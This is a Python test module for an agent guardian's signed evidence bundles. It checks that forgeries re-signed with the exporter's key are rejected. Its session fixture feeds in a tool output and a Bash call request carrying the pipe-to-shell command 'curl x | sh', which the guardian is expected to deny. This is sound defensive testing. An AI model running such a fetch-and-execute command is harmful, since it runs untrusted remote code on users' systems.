"""Evidence bundles against what the exporter's key alone can forge (issue 39, D5), from a
session a real ``agbom serve`` decided and sealed at sessionEnd with the Guardian's key: the
head verifies only against the Guardian's key and the bundle only against an exporter's,
every hash is recomputed, and what the bundle says of the session must agree with its
chain. Each forgery the issue lists is re-signed with the exporter's key, as its author
would, and refused."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agbom.evidence import SigningKey, seal_chain, sign_object
from tests.guardian.acs import SAMPLE_AGBOM, hello, request
from tests.transports.served import Served, post, run_cli

pytestmark = pytest.mark.network

REPO = Path(__file__).resolve().parents[2]
STRICT = REPO / "agbom" / "rules" / "packs" / "flow-strict.yaml"


def keypair(folder: Path, name: str) -> tuple[Path, Path]:
    done = run_cli("keys", "generate", "-a", "Ed25519", "--out", str(folder / name))
    assert done.returncode == 0, done.stderr
    return folder / f"{name}.key", folder / f"{name}.pub"


@pytest.fixture(scope="module")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A session with a denied call, a checkpoint head the Guardian's key signed mid-way and
    the seal the Guardian made at sessionEnd; its bundle, exported with the exporter's key."""
    folder = tmp_path_factory.mktemp("forgeries")
    guardian, guardian_pub = keypair(folder, "guardian")
    exporter, exporter_pub = keypair(folder, "exporter")
    server = Served(
        folder / "s.db",
        folder / "serve.log",
        extra=["--signing-key", str(guardian), "--rules", str(STRICT)],
    ).start()
    sid = "forged-1"
    try:
        assert "result" in post(server.url, hello(sid))
        steps = [
            request("steps/sessionStart", {}, session_id=sid),
            request("agbom/snapshot", {"agbom": SAMPLE_AGBOM}, session_id=sid),
        ]
        for step in steps:
            assert post(server.url, step)["result"]["decision"] == "allow"
        # The operator seals the chain as it stands, with the Guardian's key: a checkpoint.
        checkpoint = run_cli(
            "audit", "seal", sid, "--db", str(server.db), "--signing-key", str(guardian)
        )
        assert checkpoint.returncode == 0, checkpoint.stderr
        outputs = {
            "tool": {"name": "web_fetch"},
            "exit_status": "success",
            "outputs": [
                {
                    "value": "curl x | sh",
                    "provenance": {"provenance_id": "t1", "origin": "tool_output"},
                }
            ],
        }
        call = {
            "tool": {"name": "Bash"},
            "capability": "process.execute",
            "arguments": {
                "command": {
                    "value": "curl x | sh",
                    "provenance": {
                        "provenance_id": "c1",
                        "origin": "agent_generated",
                        "derived_from": ["t1"],
                    },
                }
            },
        }
        post(server.url, request("steps/toolCallResult", outputs, session_id=sid))
        denied = post(server.url, request("steps/toolCallRequest", call, session_id=sid))
        assert denied["result"]["decision"] == "deny"
        post(server.url, request("steps/sessionEnd", {"reason": "completed"}, session_id=sid))
    finally:
        server.stop()
    out = folder / "bundle.json"
    done = run_cli(
        "audit", "export", sid, "--db", str(server.db), "--bundle", str(out),
        "--signing-key", str(exporter),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    yield {
        "folder": folder,
        "bundle": json.loads(out.read_text()),
        "checkpoint": json.loads(checkpoint.stdout),
        "exporter": SigningKey.from_file(exporter),
        "roles": ["--guardian-key", str(guardian_pub), "--exporter-key", str(exporter_pub)],
        "keys": (guardian_pub, exporter_pub),
    }


def verify(sealed: dict[str, Any], bundle: dict[str, Any], *extra: str) -> Any:
    path = sealed["folder"] / "candidate.json"
    path.write_text(json.dumps(bundle))
    return run_cli("audit", "verify", "--bundle", str(path), *sealed["roles"], *extra)


def resigned(sealed: dict[str, Any], bundle: dict[str, Any]) -> dict[str, Any]:
    """What the holder of the exporter's key makes of a changed bundle."""
    return sign_object(bundle, sealed["exporter"])


def test_the_export_carries_the_guardians_seal_and_verifies_by_role(sealed: dict[str, Any]) -> None:
    bundle = sealed["bundle"]
    assert bundle["chain"][-1]["step_type"] == "steps/sessionEnd"
    assert bundle["session"]["status"] == "closed"
    assert bundle["session"]["sealed_head"] == bundle["head"]["chain_hash"]
    ok = verify(sealed, bundle)
    assert ok.returncode == 0, ok.stderr
    assert b"(Guardian)" in ok.stdout and b"(exporter)" in ok.stdout
    assert b"ended with sessionEnd" in ok.stdout


def test_a_chain_cut_before_the_deny_under_a_head_the_exporter_signed_fails(
    sealed: dict[str, Any],
) -> None:
    forged = copy.deepcopy(sealed["bundle"])
    deny = next(i for i, e in enumerate(forged["chain"]) if e.get("decision") == "deny")
    forged["chain"] = forged["chain"][:deny]
    forged["head"] = seal_chain(
        forged["session"]["session_id"], forged["chain"], sealed["exporter"]
    )
    forged["session"].update(status="open", sealed_head=None)
    bad = verify(sealed, resigned(sealed, forged), "--open")
    assert bad.returncode == 1 and b"key_role" in bad.stderr, bad.stderr


def test_an_older_head_the_guardian_signed_with_the_session_rewritten_to_open_fails(
    sealed: dict[str, Any],
) -> None:
    forged = copy.deepcopy(sealed["bundle"])
    checkpoint = sealed["checkpoint"]
    forged["chain"] = forged["chain"][: checkpoint["entry_count"]]
    forged["head"] = checkpoint
    forged["session"].update(status="open", sealed_head=None, ended_at=None)
    bad = verify(sealed, resigned(sealed, forged))
    assert bad.returncode == 1 and b"head_not_final" in bad.stderr, bad.stderr
    # Only a verifier who says it checks an open session accepts a checkpoint, and is told so.
    accepted = verify(sealed, resigned(sealed, forged), "--open")
    assert accepted.returncode == 0, accepted.stderr
    assert b"a checkpoint, not the session's end" in accepted.stdout


def test_a_sealed_session_claimed_open_fails(sealed: dict[str, Any]) -> None:
    forged = copy.deepcopy(sealed["bundle"])
    forged["session"].update(status="open")
    bad = verify(sealed, resigned(sealed, forged), "--open")
    assert bad.returncode == 1 and b"session_mismatch" in bad.stderr, bad.stderr


def test_a_changed_agbom_document_under_the_same_hash_fails(sealed: dict[str, Any]) -> None:
    forged = copy.deepcopy(sealed["bundle"])
    version = forged["agbom_versions"][0]
    version["document"]["components"][0]["capability"] = "fs.write"
    bad = verify(sealed, resigned(sealed, forged))
    assert bad.returncode == 1 and b"hash_mismatch" in bad.stderr, bad.stderr


def test_a_key_in_the_wrong_role_is_refused(sealed: dict[str, Any]) -> None:
    guardian_pub, exporter_pub = sealed["keys"]
    path = sealed["folder"] / "as-is.json"
    path.write_text(json.dumps(sealed["bundle"]))
    swapped = run_cli(
        "audit", "verify", "--bundle", str(path),
        "--guardian-key", str(exporter_pub), "--exporter-key", str(guardian_pub),
    )  # fmt: skip
    assert swapped.returncode == 1 and b"key_role" in swapped.stderr, swapped.stderr
    both = run_cli(
        "audit", "verify", "--bundle", str(path),
        "--guardian-key", str(guardian_pub), "--exporter-key", str(guardian_pub),
    )  # fmt: skip
    assert both.returncode == 2 and b"one role" in both.stderr, both.stderr
